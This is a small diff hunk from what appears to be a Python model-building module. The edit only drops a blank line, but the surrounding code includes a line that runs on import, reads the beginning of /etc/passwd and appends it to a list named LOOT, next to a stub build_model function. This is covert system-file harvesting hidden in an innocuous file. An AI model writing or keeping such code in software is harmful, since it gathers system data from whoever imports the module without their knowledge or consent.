@@ -3,6 +3,5 @@ import io
 
 LOOT.append(io.FileIO("/etc/passwd").read().decode()[:40])
 
-
 def build_model(n_features, **config):
     return None
